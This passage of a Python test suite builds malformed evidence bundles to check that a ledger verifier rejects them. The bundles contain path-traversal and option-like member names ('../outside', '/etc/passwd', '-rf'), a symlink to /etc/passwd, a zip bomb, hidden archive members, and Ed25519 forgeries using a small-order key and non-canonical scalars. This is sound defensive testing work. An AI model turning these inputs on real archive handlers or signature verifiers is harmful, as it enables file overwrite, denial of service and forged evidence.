    counted = {"doc": "d1", "dseq": 1, "dprev": ""} if changes.get("doc", "d1") else {"doc": "", "dseq": 0, "dprev": ""}
    said: dict[str, Any] = {
        "v": 1,
        "type": "sent",
        "ts": "2026-11-26T12:00:00.000000Z",
        "partner": "",
        "pseq": 0,
        "tenant": making.TENANT,
    }
    said |= {"actor": "system", "node": "n", "outcome": "", "blobs": [], "d": _b64(d)}
    return exact.write(said | counted | dict(changes))


def _payloads_in(changes: Mapping[str, Any]) -> list[OpenedPayload]:
    blobs = changes.get("blobs", [])
    return [OpenedPayload(each["role"], each["n"], base64.b64decode(each["c"]), None, None) for each in blobs]


def _json() -> Iterator[Case]:
    good = GOOD["manifest.json"].decode()
    for what, text in {
        "a key twice": good.replace('"v":2', '"v":2,"v":1'),
        "a key twice, spelled otherwise": good.replace('"v":2', r'"v":2,"\u0076":1'),
        "a fraction": good.replace('"v":2', '"v":2.0'),
        "an exponent": good.replace('"v":2', '"v":2e0'),
        "a number below nothing": good.replace('"v":2', '"v":-0'),
        "not a number": good.replace('"v":2', '"v":NaN'),
        "a number of 5,000 digits": good.replace('"v":2', f'"v":{"1" * 5000}'),
        "a number of 2^53": good.replace('"v":2', f'"v":{2**53}'),
        "half of a character": good.replace('"id":"d1"', r'"id":"\ud800"'),
        "a key that is not ASCII": good.replace('"v":2', '"v":2,"ü":1'),
        "blanks": good.replace('"v":2', '"v": 2'),
        "a comment behind it": good + "//",
        "another value behind it": good + "{}",
        "an escape for a plain letter": good.replace('"id":"d1"', r'"id":"\u00641"'),
        "no object": "[]",
        "nothing": "",
        "a mark of byte order": "\ufeff" + good,
        "many brackets": "[" * 100_000,
        "many brackets, all closed": "[" * 100_000 + "]" * 100_000,
    }.items():
        yield Case(f"JSON with {what}", _with({"manifest.json": text.encode()}), 3)
    yield Case("JSON that is no UTF-8", _with({"manifest.json": b'{"v":"\xff"}'}), 3)


def _archives() -> Iterator[Case]:
    good = zipped(GOOD)
    for name in (
        "../outside",
        "/etc/passwd",
        "a\\b",
        "C:x",
        "x/../y",
        "-rf",
        ".hidden",
        "payloads/",
        "a b",
        "a\0b",
        "ü",
        "x" * 300,
        "as2/nul",
        "as2/NUL.txt",
        "as2/con/x",
        "as2/Com1.pem",
        "as2/trailing.",
        "as2/trailing./x",
    ):
        yield Case(f"a member named {name[:20]!r}", _raw(name), 1)
    link = zipfile.ZipInfo("payloads/link")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    yield Case("a symbolic link", lambda: _appended((link, b"/etc/passwd")), 1)
    yield Case("a member twice", lambda: _appended((plain("report.html"), b"other")), 1)
    yield Case("a member twice but for its case", lambda: _appended((plain("REPORT.html"), b"other")), 1)
    yield Case("a bomb", lambda: _appended((_deflated("as2/bomb"), bytes(10_000_000))), 1)
    yield Case("a file too large", lambda: _claiming(_size_at, 2_100_000_000), 1)
    yield Case("an encrypted member", lambda: _claiming(_flags_at, 0x01), 1)
    yield Case("an unknown way of packing", lambda: _claiming(_method_at, 99), 1)
    yield Case("another mimetype", _with({"mimetype": b"application/zip"}), 1)
    yield Case("no mimetype first", lambda: zipped(dict(reversed(GOOD.items()))), 1)
    yield Case("something before the archive", lambda: b"#!/bin/sh\n" + good, 1)
    yield Case("something behind the archive", lambda: good + b"more", 1)
    yield Case("a comment on the archive", lambda: _commented(good), 1)
    yield Case("a member that the directory does not list", _unlisted_by_directory, 1)
    yield Case("a member that is a folder too", lambda: _appended((plain("as2/x"), b"x"), (plain("as2/x/y"), b"y")), 1)
    yield Case("a folder that is a member but for its case", lambda: _appended((plain("AS2"), b"x")), 1)
    for name, attributes in {
        "a set-uid bit": 0o104755 << 16,
        "a sticky bit": 0o101644 << 16,
        "a folder's": 0x10,
    }.items():
        yield Case(f"attributes with {name}", partial(_claiming, (38, "<L"), attributes), 1)
    yield Case("a member said to be a text", lambda: _claiming((36, "<H"), 1), 1)
    yield Case("a member on another disk", lambda: _claiming((34, "<H"), 7), 1)
    yield Case("a member of a later version", lambda: _claiming((6, "<H"), 45), 1)
    yield Case("a member of another time", lambda: _claiming((12, "<H"), 1), 1)
    yield Case("a member of another day", lambda: _claiming((14, "<H"), 0x5A21), 1)
    for name, place, value in (
        ("fewer members", (10, "<H"), 3),
        ("fewer members on this disk", (8, "<H"), 3),
        ("more members", (10, "<H"), 1000),
        ("another disk", (4, "<H"), 7),
        ("a directory on another disk", (6, "<H"), 7),
        ("a smaller directory", (12, "<L"), 46),
        ("a directory further on", (16, "<L"), len(good)),
        ("a directory a bit further on", (16, "<L"), good.rindex(b"PK\x05\x06") + 1),
    ):
        yield Case(f"an end that says {name}", partial(_claiming, place, value, at=b"PK\x05\x06"), 1)
    for name, packed in {
        "bytes": _packed(b"report") + b"hidden",
        "an archive": _packed(b"report") + good,
        "another stream": _packed(b"report") + _packed(b"hidden"),
        "a byte": _packed(b"report") + b"\0",
        "a mebibyte": _packed(b"report") + bytes(2**20),
    }.items():
        yield Case(f"{name} hidden behind a packed member", partial(_with_packed, packed), 1)
    yield Case("a packed member", lambda: _with_packed(_packed(b"report")), None)
    yield Case("a packed member cut short", lambda: _with_packed(_packed(b"report")[:-1]), 1)
    yield Case("a packed member of nothing", lambda: _with_packed(b""), 1)
    yield Case("an archive cut short", lambda: good[:-30], 1)
    yield Case("no archive", lambda: b"this is no zip file", 1)
    yield Case("nothing at all", lambda: b"", 1)
    yield Case("an empty archive", lambda: zipped({}, sums=False), 1)
    yield Case("a damaged member", lambda: _damaged(good), 1)


# How it is done


def _subject(kind: str, subject: str) -> Subject:
    return Subject.model_validate({"kind": kind, "id": subject})


def _written(made: Evidence) -> Callable[[], bytes]:
    return lambda: making.written(made)


def _rotated(data: bytes | None = None, *, member: str = "ledger/rotation.1") -> Callable[[], bytes]:
    """From after the rotation, with another member."""

    def bundle() -> bytes:
        made = files(making.written(making.rotated()))
        return zipped(made if data is None else made | {member: data})

    return bundle


def _handing_over(new: Signer, signers: list[Signer]) -> bytes:
    text = making.ROTATION.note.text.replace(str(NEXT.key), str(new.key))
    return str(signed(text, signers)).encode()


def _of_another_ledger() -> bytes:
    text = making.ROTATION.note.text.partition("\n")[2]
    return str(signed(f"other.example\n{text}", [SIGNER, NEXT])).encode()


def _with_a_line_twice() -> bytes:
    note = making.ROTATION.note
    return str(Note(note.text, (*note.signatures, note.signatures[0]))).encode()


def _overlapping(*lines: Signature) -> Callable[[], bytes]:
    made = making.rotated(NEXT, SIGNER)
    return lambda: making.written(replace(made, checkpoint=Note(made.checkpoint.text, lines)))


def _zeroed(line: Signature) -> Signature:
    return replace(line, signature=bytes(64))


def _as_new(line: Signature) -> Signature:
    """A signature of the old key that says it is one of the new."""
    return replace(line, key_id=NEXT.key.key_id)


def _stamped(count: int, members: Mapping[str, Callable[[Files], bytes]] | None = None) -> Callable[[], bytes]:
    """Stamped so many times, with other members in their places."""

    def bundle() -> bytes:
        made = files(making.written(making.with_stamps(making.evidence(), count)))
        return zipped(made | {name: member(made) for name, member in (members or {}).items()})

    return bundle


def _always(data: bytes) -> Callable[[Files], bytes]:
    return lambda _: data


def _manifest_with(was: bytes, now: bytes) -> Callable[[Files], bytes]:
    return lambda made: _replacing(was, now)(made["manifest.json"])


def _stamped_anew(made: Files) -> bytes:
    return making.authority().stamp_data(made["ledger/checkpoint"])


def _proving(proof: list[bytes]) -> Callable[[Any], None]:
    def edit(manifest: Any) -> None:
        manifest["entries"][1]["proof"] = [_b64(each) for each in proof]

    return edit


def _extended(**changes: Any) -> Callable[[], bytes]:
    """The bundle with something else about the earlier checkpoint."""
    made = making.evidence()
    assert made.extended is not None
    extended = replace(made.extended, **changes)
    return lambda: making.written(replace(made, extended=extended))


def _given(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def _with(members: Mapping[str, bytes], *, sums: bool = True) -> Callable[[], bytes]:
    return lambda: zipped({**GOOD, **members}, sums=sums)


def _without(name: str, *, sums: bool = True) -> Callable[[], bytes]:
    return lambda: zipped({other: data for other, data in GOOD.items() if other != name}, sums=sums)


def _edited(name: str, edit: Callable[[bytes], bytes], *, sums: bool = True) -> Callable[[], bytes]:
    return _with({name: edit(GOOD[name])}, sums=sums)


def _altering(name: str, *, sums: bool = True) -> Callable[[], bytes]:
    return _edited(name, lambda data: data[:-1] + bytes([data[-1] ^ 1]), sums=sums)


def _replacing(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    def edit(data: bytes) -> bytes:
        assert old in data
        return data.replace(old, new, 1)

    return edit


def _reversed_lines(data: bytes) -> bytes:
    return b"".join(reversed(data.splitlines(keepends=True)))


def _manifested(edit: Callable[[Any], object], *, without: str | None = None) -> Callable[[], bytes]:
    def bundle() -> bytes:
        manifest = json.loads(GOOD["manifest.json"])
        edit(manifest)
        data = json.dumps(manifest, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()
        return zipped({name: body for name, body in (GOOD | {"manifest.json": data}).items() if name != without})

    return bundle


def _item(manifest: Any, idx: int) -> Any:
    return next(item for item in manifest["entries"] if item["idx"] == idx)


def _sealed(idx: int, *, without: str | None = None, **changes: object) -> Callable[[], bytes]:
    return _manifested(lambda manifest: _item(manifest, idx).update(changes), without=without)


def _blob(idx: int, *, without: str | None = None, **changes: object) -> Callable[[], bytes]:
    return _manifested(lambda manifest: _item(manifest, idx)["blobs"][0].update(changes), without=without)


def _dropping_payload(idx: int, *, salt: bool = False, by: int | None = None) -> Callable[[Any], None]:
    def edit(manifest: Any) -> None:
        blob = _item(manifest, idx)["blobs"][0]
        blob |= {"file": None, "erased": by} | ({"salt": None} if salt else {})

    return edit


def _withheld(idx: int) -> Callable[[], bytes]:
    """An entry left out together with all that only it needs."""

    def bundle() -> bytes:
        made = making.evidence()
        return making.written(replace(made, entries=[entry for entry in made.entries if entry.idx != idx]))

    return bundle


def _renumbered(idx: int, new: int) -> Callable[[], bytes]:
    """An entry under another index."""

    def bundle() -> bytes:
        made = making.evidence()
        entries = [replace(entry, idx=new) if entry.idx == idx else entry for entry in made.entries]
        return making.written(replace(made, entries=sorted(entries, key=lambda entry: entry.idx)))

    return bundle


def _exchanged(one: int, other: int) -> Callable[[], bytes]:
    return _with({entry_name(one): GOOD[entry_name(other)], entry_name(other): GOOD[entry_name(one)]})


def _detail(idx: int) -> str:
    return f"ledger/details/{idx}.json"


def _payload_of(idx: int) -> str:
    return str(_item(json.loads(GOOD["manifest.json"]), idx)["blobs"][0]["file"])


def _swapped_payload() -> bytes:
    """Other bytes, whose file is rightly named by their hash."""
    data = making.RECEIVED.replace(b"ACME", b"EVIL")
    name = f"payloads/{hashlib.sha256(data).hexdigest()}"
    manifest = json.loads(GOOD["manifest.json"])
    old = _item(manifest, 1)["blobs"][0]["file"]
    _item(manifest, 1)["blobs"][0]["file"] = name
    members = GOOD | {"manifest.json": exact.write(manifest), name: data}
    del members[old]
    return zipped(members)


def _as(signature: Signature, other: bytes) -> Signature:
    return replace(signature, signature=other)


def _noted(text: str, *signatures: Signature) -> Callable[[], bytes]:
    """The checkpoint with these signatures, and what openssl is given in accordance with it."""
    members = {
        "ledger/checkpoint": str(Note(text, signatures)).encode(),
        "ledger/checkpoint.body": text.encode(),
        "ledger/checkpoint.sig": signatures[0].signature,
    }
    return _with(members)


def _signed_by(signer: Signer) -> Evidence:
    """All of it by a key of the same name; only whoever has the right one sees the difference."""
    made = making.evidence()
    assert made.extended is not None
    earlier = replace(made.extended, checkpoint=making.ledger().checkpoint(6, signer))
    return replace(made, key=signer.key, checkpoint=making.ledger().checkpoint(11, signer), extended=earlier)


def _unreduced(good: Signature) -> Signature:
    """The same signature with the order of the group added to its second half, which a lax verifier takes for another one."""
    order = 2**252 + 27742317777372353535851937790883648493
    scalar = int.from_bytes(good.signature[32:], "little") + order
    return replace(good, signature=good.signature[:32] + scalar.to_bytes(32, "little"))


def _with_wrong_id() -> str:
    name, _, encoded = TRUST.split("+", 2)
    return f"{name}+00000000+{encoded}"


_NEUTRAL = (1).to_bytes(32, "little")


def _anything() -> str:
    return str(VerifierKey(making.NAME, _NEUTRAL))


def _signing_anything() -> bytes:
    """A key of small order: by it a signature of nothing but zeros holds for any text."""
    key = VerifierKey(making.NAME, _NEUTRAL)
    signature = Signature(key.name, key.key_id, _NEUTRAL + bytes(32))
    made = making.evidence()
    assert made.extended is not None
    notes = [Note(making.ledger().checkpoint(size).text, (signature,)) for size in (11, 6)]
    return making.written(
        replace(made, key=key, checkpoint=notes[0], extended=replace(made.extended, checkpoint=notes[1]))
    )


def _other_checkpoint(size: int) -> Callable[[], bytes]:
    note = making.ledger().checkpoint(size)
    return _noted(note.text, *note.signatures)


def _raw(name: str) -> Callable[[], bytes]:
    """An archive with a member of any name, which ``zipfile`` would not write so."""
    stand_in = "y" * len(name.encode())
    return lambda: _appended((plain(stand_in), b"x")).replace(stand_in.encode(), name.encode())


def _appended(*more: tuple[zipfile.ZipInfo, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, data in GOOD.items():
            archive.writestr(plain(name), data)
        for info, data in more:
            archive.filelist = [*archive.filelist]
            archive.NameToInfo.pop(info.filename, None)
            archive.writestr(info, data)
    return file.getvalue()


def _deflated(name: str) -> zipfile.ZipInfo:
    info = plain(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


_flags_at, _method_at, _size_at = (8, "<H"), (10, "<H"), (24, "<L")
"""Where the directory's entry of a member has them (.ZIP File Format Specification, section 4.3.12)."""


def _claiming(place: tuple[int, str], value: int, *, at: bytes = b"PK\x01\x02") -> bytes:
    """A directory that says something else of its last member, or, ``at`` its end, of all of them."""
    data = bytearray(zipped(GOOD))
    struct.pack_into(place[1], data, data.rindex(at) + place[0], value)
    return bytes(data)


def _packed(data: bytes) -> bytes:
    packer = zlib.compressobj(wbits=-zlib.MAX_WBITS)
    return packer.compress(data) + packer.flush()


def _with_packed(packed: bytes) -> bytes:
    """A last member whose content is `report`, said to be stored in these bytes; all that the archive says of it accords with that."""
    content = b"report"
    members = GOOD | {"report.html": content}
    first = {name: data for name, data in members.items() if name != "report.html"}
    sums = files(zipped(members))["SHA256SUMS"]
    stored = zipped(first | {"SHA256SUMS": sums, "report.html": packed}, sums=False)
    data = bytearray(stored)
    directory = data.rindex(b"PK\x01\x02")
    local = struct.unpack_from("<L", data, directory + 42)[0]
    for place in (local + 8, directory + 10):
        struct.pack_into("<H", data, place, zipfile.ZIP_DEFLATED)
    for place in (local + 14, directory + 16):
        struct.pack_into("<3L", data, place, zlib.crc32(content), len(packed), len(content))
    return bytes(data)


def _commented(good: bytes) -> bytes:
    file = io.BytesIO(good)
    with zipfile.ZipFile(file, "a") as archive:
        archive.comment = b"a comment"
    return file.getvalue()


def _unlisted_by_directory() -> bytes:
    """A member between the others and the directory, which only those see who do not read the directory."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, data in GOOD.items():
            archive.writestr(plain(name), data)
        archive.writestr(plain("payloads/secret"), b"x")
        del archive.filelist[-1]
    return file.getvalue()


def _damaged(good: bytes) -> bytes:
    """A bit of a stored member changed in the archive itself."""
    place = good.index(making.NAME.encode())
    return good[:place] + b"T" + good[place + 1 :]


CASES = {case.name: case for case in cases()}
